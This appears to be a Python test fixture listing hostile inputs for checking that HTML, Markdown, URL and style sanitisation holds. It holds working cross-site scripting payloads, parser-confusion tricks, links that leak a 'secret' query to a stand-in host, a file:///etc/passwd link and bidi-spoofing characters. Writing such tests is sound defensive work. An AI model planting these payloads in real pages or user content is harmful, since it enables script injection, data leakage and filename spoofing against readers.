"""Texts that would run a script or contact a third party if they were treated as HTML, a URL or a style."""

from __future__ import annotations

from typing import Final

OTHER_ORIGIN: Final = "http://127.0.0.1:9"
SCRIPT: Final = "window.hacked=1"
HOSTILE: Final = (
    f"<script>{SCRIPT}</script>",
    f"<img src=x onerror={SCRIPT}>",
    f'<svg onload="{SCRIPT}"></svg>',
    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'></iframe>",
    f"<style>@import '{OTHER_ORIGIN}/style';</style><link rel=prefetch href={OTHER_ORIGIN}/link>",
    f"<meta http-equiv=refresh content='0;url={OTHER_ORIGIN}/refresh'>",
    f"[script](javascript:{SCRIPT}) [data](data:text/html,<script>{SCRIPT}</script>) [vb](vbscript:x)",
    f"![leak]({OTHER_ORIGIN}/leak?q=secret) ![](//127.0.0.1:9/relative)",
    f"[ref]: javascript:{SCRIPT}\n\n[ref] and <javascript:{SCRIPT}>",
    f"&lt;img src=x onerror={SCRIPT}&gt; &#60;script&#62;{SCRIPT}&#60;/script&#62;",
    f"`</code><script>{SCRIPT}</script>`",
    f"| <img src=x onerror={SCRIPT}> | b |\n|---|---|\n| <script>{SCRIPT}</script> | d |",
    f"<math><a xlink:href='javascript:{SCRIPT}'>x</a></math>",
    f'[over](https://example.org" onmouseover="{SCRIPT})',
    "{{constructor.constructor('window.hacked=1')()}}",
    f"<svg><foreignObject><script>{SCRIPT}</script></foreignObject>"
    f"<animate onbegin={SCRIPT} attributeName=x dur=1s></svg>",
    f"<svg><use href='{OTHER_ORIGIN}/use.svg#a'/><image href='{OTHER_ORIGIN}/image'/>"
    f"<set attributeName=href to=javascript:{SCRIPT}></svg>",
    f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={SCRIPT}&gt;'></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'></noscript>",
    f"<div style='background:url({OTHER_ORIGIN}/css)'>x</div><style>*{{background:url({OTHER_ORIGIN}/all)}}</style>",
    f"<form action=javascript:{SCRIPT}><button autofocus onfocus={SCRIPT}>x</button></form><base href={OTHER_ORIGIN}/>",
    f"<video poster={OTHER_ORIGIN}/poster src=x onerror={SCRIPT}></video><object data={OTHER_ORIGIN}/object></object>",
    f"[tab](java\tscript:{SCRIPT}) [case](JaVaScRiPt:{SCRIPT}) "
    f"[entity](javascript&colon;{SCRIPT}) [control](\x01javascript:{SCRIPT})",
    f"[blob](blob:{OTHER_ORIGIN}/x) [file](file:///etc/passwd) [intent](intent://x#Intent;end) "
    "[about](about:blank) [no](//127.0.0.1:9/x)",
    f"![svg](data:image/svg+xml,<svg/onload={SCRIPT}>) "
    f"![title]({OTHER_ORIGIN}/title 'onerror={SCRIPT}') [![in]({OTHER_ORIGIN}/in)](x:y)",
    f"<{OTHER_ORIGIN}/auto> {OTHER_ORIGIN}/bare www.example.org/bare <mailto:a@example.org?body={SCRIPT}>",
    "\u202egpj.exe \u2066isolated \u202dforced",
)
